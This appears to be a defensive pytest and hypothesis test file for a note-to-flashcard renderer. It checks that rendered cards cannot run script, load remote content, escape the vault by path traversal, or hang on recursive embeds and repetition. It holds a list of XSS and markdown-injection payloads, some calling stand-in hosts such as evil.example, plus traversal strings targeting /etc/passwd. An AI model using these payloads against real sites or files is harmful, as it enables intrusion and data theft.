"""Hostile notes: nothing runs, nothing loads, nothing leaks, nothing hangs."""
# ruff: noqa: E501  a case is a line

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.cards.rendering import Vault, cloze, html, rendered

VAULT = Vault({"Here.md": "", "Note.md": "x"}, {"img.png": b"1"})

REMOTE = re.compile(r"^\s*(?:https?:)?//", re.IGNORECASE)
ELEMENTS = frozenset(
    "script style iframe object embed form input button link meta base svg math video audio source textarea select "
    "frame frameset applet template noscript title".split()
)


class Inspector(HTMLParser):
    """Collects what could run or load."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ELEMENTS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            squeezed = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in (
                "srcdoc",
                "action",
                "formaction",
                "srcset",
                "background",
                "ping",
            ):
                self.bad.append(f"{name}={value}")
            if squeezed.startswith(("javascript:", "vbscript:", "file:")):
                self.bad.append(f"{name}={value}")
            if squeezed.startswith("data:") and not (tag == "img" and squeezed.startswith("data:image/")):
                self.bad.append(f"{name}={value}")
            if tag != "a" and name in ("src", "href", "poster", "data") and REMOTE.match(value or ""):
                self.bad.append(f"{name}={value}")
            if name == "style" and ("url(" in squeezed or "expression" in squeezed or "position" in squeezed):
                self.bad.append(f"{name}={value}")


def dangers(text: str) -> list[str]:
    """What could run or load when this HTML is shown."""
    inspector = Inspector()
    inspector.feed(text)
    inspector.close()
    return inspector.bad


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/p.gif'>",
    "<img srcset='https://tracker.example/p.gif 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=x><button>y</button></form>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa&#x09;ScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a> <a href='file:///etc/passwd'>y</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0'>x</div>",
    "<video src='https://evil.example/x.mp4' autoplay></video><audio src='https://evil.example/x.mp3'></audio>",
    "<b onclick=alert(1) onmouseover='alert(2)'>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<p>x</p><!-- --><script>/* --> */alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/p.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](img.png"onerror="alert(1))',
    '![" onerror="alert(1)](img.png)',
    '![[img.png|" onerror="alert(1)]]',
    "[[Note|<img src=x onerror=alert(1)>]]",
    '[[Nowhere"><script>alert(1)</script>]]',
    '[a](https://x.y/"onclick="alert(1))',
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$<script>alert(1)</script>$",
    '> [!x"><script>alert(1)</script>] T\n> b',
    "a^[<img src=x onerror=alert(1)>]",
    "==<script>alert(1)</script>==",
    "| <img src=x onerror=alert(1)> |\n|-|\n| x |",
    "<b title='\ufdd01\ufdd1\"><script>alert(1)</script>\ufdd3'>x</b>",
    "\\(<script>alert(1)</script>\\)",
    "$x$<span \ufdd4>y",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_or_loads(payload: str) -> None:
    card = rendered(
        VAULT, front=payload, back=f"a\n\n{payload}\n\nb", extra=f"x {payload} y", headings=(payload,)
    )
    text = rendered(VAULT, kind="cloze", text=f"\ufdd01\ufdd1{payload}\ufdd3", headings=(payload,))
    for value in (*card.fields.values(), *text.fields.values()):
        assert dangers(value) == []
    assert {file.path for file in card.media} <= {"img.png"}


@pytest.mark.parametrize("payload", PAYLOADS[:30])
def test_what_was_dropped_is_said(payload: str) -> None:
    harmless = ("<![CDATA[", "<x:", "<?php")
    card = rendered(VAULT, front=payload, back="b")
    assert card.problems or payload.startswith(harmless)


TRAVERSALS = [
    "../../../etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\share\\x.png",
    "img.png/../../../../etc/passwd",
]


@pytest.mark.parametrize("target", TRAVERSALS)
@pytest.mark.parametrize("form", ["![]({})", "![](<{}>)", "![[{}]]", "[x]({})", "[[{}]]", '<img src="{}">'])
def test_no_path_leaves_the_vault(target: str, form: str) -> None:
    card = rendered(VAULT, front=form.format(target), back="b")
    assert card.media == ()
    assert "file:" not in card.fields["Front"]


def test_an_embed_cannot_contain_itself() -> None:
    vault = Vault({"Here.md": "![[B]]", "B.md": "b ![[C]]", "C.md": "c ![[B]] ![[Here]]"})
    card = rendered(vault, front="![[B]]", back="b")
    assert "b c " in card.fields["Front"]
    assert all("would contain itself" in problem.message for problem in card.problems)
    assert card.problems


def test_embeds_are_not_followed_for_ever() -> None:
    vault = Vault({"Here.md": "", **{f"N{n}.md": f"n{n} ![[N{n + 1}]]" for n in range(20)}})
    card = rendered(vault, front="![[N0]]", back="b")
    assert "n4" in card.fields["Front"]
    assert "n6" not in card.fields["Front"]
    assert "deep" in card.problems[0].message


def test_embeds_that_multiply_are_cut_off() -> None:
    vault = Vault(
        {
            "Here.md": "",
            **{f"N{n}.md": f"![[N{n + 1}]]\n\n" * 50 for n in range(4)},
            "N4.md": "x" * 1000,
        }
    )
    started = time.perf_counter()
    card = rendered(vault, front="![[N0]]", back="b")
    assert time.perf_counter() - started < 10
    assert len(card.fields["Front"]) < 2_000_000
    assert any("too long" in problem.message for problem in card.problems)


REPEATED = [
    "*", "**a", "_a_", "[", "![", "[[", "![[", "]]", "](", "[a](", "`", "``a", "~~", "==", "==a", "$", "$$", "$a", "$$a\n", "$\\",
    "<", "<a", "<!--", "<!-- a", "<b>", "</b>", "&", "&#", "\\", "^[", "[^1]", "[^1]: a\n", "> ", "> [!note]\n", "- ", "- a\n",
    "  - ", "1. ", "#", "|", "|a|\n|-|\n", "%%", "%%a\n", ": a\n", "```\n", "~~~a\n", "{", "}}", "{{c1::", "::", "a\n\n",
    "http://", "www.", "a@b.c ", "\ufdd01\ufdd1", "\ufdd3", "\ufdd01\ufdd1a\ufdd3", "\ufdd01\ufdd1<b>", "[a]: b\n", "^a ", "\u05d0", "e\u0301",
    "<details>", "<table><tr>", "![a](b) ", "[[x]] ", "![[x]] ", "***a***", "a**b**", "<a href=\"", "\t", " ", "\n",
]  # fmt: skip


@pytest.mark.parametrize("piece", REPEATED)
def test_repetition_takes_no_time(piece: str) -> None:
    """20,000 characters of one thing; the same again for four times as many would be a hang."""
    text = f"a {piece * (20_000 // len(piece))} b"
    started = time.process_time()
    html(text)
    cloze(text)
    assert time.process_time() - started < 10


FRAGMENTS = st.sampled_from(
    [
        *PAYLOADS,
        *REPEATED,
        "\n",
        "\n\n",
        " ",
        "a",
        "<b>",
        "</b>",
        "<div>",
        "</div>",
        "onerror=x",
        '"',
        "'",
        ">",
        "/",
        "javascript:",
    ]
)


@given(st.lists(FRAGMENTS, max_size=12).map("".join))
@example("<a href='x'\ufdd3\ufdd01\ufdd1>")
def test_no_mixture_runs_or_loads(text: str) -> None:
    for kind in ("basic", "cloze"):
        sides = {"text": text} if kind == "cloze" else {"front": text, "back": text}
        card = rendered(VAULT, kind=kind, extra=text, headings=(text,), **sides)
        for value in card.fields.values():
            assert dangers(value) == []


@given(st.text(max_size=200))
def test_no_text_is_too_much(text: str) -> None:
    html(text)
    cloze(text)
